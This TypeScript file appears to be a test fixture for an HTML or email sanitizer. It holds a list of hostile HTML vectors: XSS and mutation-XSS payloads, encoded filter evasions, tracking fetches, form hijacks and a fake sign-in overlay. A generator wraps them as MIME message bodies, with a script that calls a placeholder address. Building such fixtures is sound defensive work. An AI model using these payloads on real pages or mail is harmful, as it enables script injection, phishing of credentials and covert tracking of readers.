/*
 * HTML that fetches, runs, sends, covers or leaves, where a reader lets it: from the XSS filter evasion notes of OWASP, the
 * HTML standard's lists of what fetches, and what is known of mutated parsing (from memory). `URL` stands for an address that
 * nobody may ask, `RUN` for a script.
 */
const VECTORS: readonly string[] = [
	'<img src="URL">',
	'<img src=x onerror="RUN">',
	'<img srcset="URL 1x, URL 2x">',
	'<picture><source srcset="URL"><img src="URL"></picture>',
	'<script>RUN</script>',
	'<script src="URL"></script>',
	'<scr<script>ipt>RUN</scr</script>ipt>',
	'<svg onload="RUN"></svg>',
	'<svg><image href="URL"/><use href="URL#a"/></svg>',
	'<svg><script>RUN</script></svg>',
	'<svg><animate onbegin="RUN" attributeName="x" dur="1s"/></svg>',
	'<svg><foreignObject><iframe src="URL"></iframe></foreignObject></svg>',
	'<math><maction actiontype="statusline#URL" xlink:href="javascript:RUN">x</maction></math>',
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=URL onerror=RUN&gt;">',
	'<svg></p><style><a id="</style><img src=URL onerror=RUN>">',
	'<noscript><p title="</noscript><img src=URL onerror=RUN>">',
	'<template><img src="URL" onerror="RUN"></template>',
	'<iframe src="URL"></iframe>',
	'<iframe srcdoc="<script>RUN</script><img src=URL>"></iframe>',
	'<object data="URL"></object><embed src="URL"><applet code="URL"></applet>',
	'<video src="URL" autoplay poster="URL"><track src="URL" default></video>',
	'<audio src="URL" autoplay></audio>',
	'<link rel="stylesheet" href="URL"><link rel="icon" href="URL">',
	'<link rel="prefetch" href="URL"><link rel="dns-prefetch" href="URL"><link rel="preconnect" href="URL">',
	'<link rel="modulepreload" href="URL"><link rel="manifest" href="URL">',
	'<style>@import "URL"; body { background: url("URL") }</style>',
	'<style>@font-face { font-family: a; src: url(URL) } p { font-family: a }</style><p>x</p>',
	'<p style="background-image: url(URL)">x</p>',
	'<p style="background: image-set(\'URL\' 1x); cursor: url(URL), auto">x</p>',
	'<ul style="list-style-image: url(URL)"><li>x</li></ul>',
	'<p style="content: url(URL); mask: url(URL); filter: url(URL#a)">x</p>',
	'<p style="width: expression(RUN); -moz-binding: url(URL#a); behavior: url(URL)">x</p>',
	'<p style="background:\\75\\72\\6c(URL)">x</p>',
	'<table background="URL"><tr><td background="URL">x</td></tr></table>',
	'<body background="URL" onload="RUN"><p>x</p></body>',
	'<meta http-equiv="refresh" content="0; url=URL">',
	'<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="URL">',
	'<base href="URL"><img src="x.png"><a href="x">x</a>',
	'<form action="URL" method="post"><input name="a" value="b" autofocus onfocus="RUN"><button>Sign in again</button></form>',
	'<form id="f" action="URL"></form><button form="f">x</button><script>f.submit()</script>',
	'<input type="image" src="URL">',
	'<isindex action="URL" prompt="password">',
	'<details open ontoggle="RUN"><summary>x</summary></details>',
	'<dialog open><form method="dialog" action="URL"><button autofocus onfocus="RUN">x</button></form></dialog>',
	'<marquee onstart="RUN">x</marquee>',
	'<select autofocus onfocus="RUN"><option>x</option></select>',
	'<a href="javascript:RUN" autofocus onfocus="RUN">x</a>',
	'<a href="URL" ping="URL">x</a>',
	'<a href="&#106;avascript:RUN">x</a><a href="java\tscript:RUN">x</a><a href="data:text/html,<script>RUN</script>">x</a>',
	'<script type="speculationrules">{"prerender":[{"urls":["URL"]}]}</script>',
	'<script type="importmap">{"imports":{"a":"URL"}}</script><script type="module">import "a"</script>',
	'<img src="cid:evil"><img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'RUN\'/>">',
	'<!--[if gte IE 4]><script>RUN</script><![endif]--><!--><img src=URL>-->',
	'<![CDATA[<img src="URL">]]><?xml-stylesheet href="URL"?>',
	'<img src="URL"\0 onerror="RUN"><im\0g src=URL>',
	'<div style="position:fixed;inset:0;z-index:9999;background:white">Your session has ended. <a href="URL">Sign in</a></div>',
	'<frameset><frame src="URL"></frameset>',
	'<portal src="URL"></portal><fencedframe src="URL"></fencedframe>',
	'<img src="&#x55;RL"><img/src="URL"/onerror="RUN"><img\nsrc=\nURL>',
	'<textarea><img src="URL" onerror="RUN"></textarea><title><img src=URL></title><xmp><img src=URL></xmp>'
];

/** How the HTML is written: as it is, as mail writes it, in letters that a filter may not know, or broken off. */
const WRITTEN: readonly { charset: string; encoding: string; write: (html: string) => string }[] = [
	{ charset: 'utf-8', encoding: '8bit', write: (html) => html },
	{
		charset: 'utf-16le',
		encoding: 'base64',
		write: (html) => Buffer.from(html, 'utf16le').toString('base64').replace(/.{76}/g, '$&\n')
	}
];

/** A hostile document, as the body of a message with its header. */
export interface Hostile {
	html: string;
	header: string;
	body: string;
}

/**
 * Hostile documents: every vector, written in every way.
 *
 * @param url an address that nobody may ask
 */
export function hostileDocuments(url: string): Hostile[] {
	const run = `fetch('${url}/run');new Image().src='${url}/ran';parent.document.title='broken into';alert(1)`;
	return WRITTEN.flatMap(({ charset, encoding, write }) =>
		VECTORS.map((vector, at) => {
			const html = `<p>Before ${at}.</p>${vector.replaceAll('URL', `${url}/${at}`).replaceAll('RUN', run.replaceAll('"', '&quot;'))}<p>After ${at}.</p>`;
			return {
				html,
				header: `MIME-Version: 1.0\nContent-Type: text/html; charset=${charset}\nContent-Transfer-Encoding: ${encoding}\n`,
				body: write(html)
			};
		})
	);
}
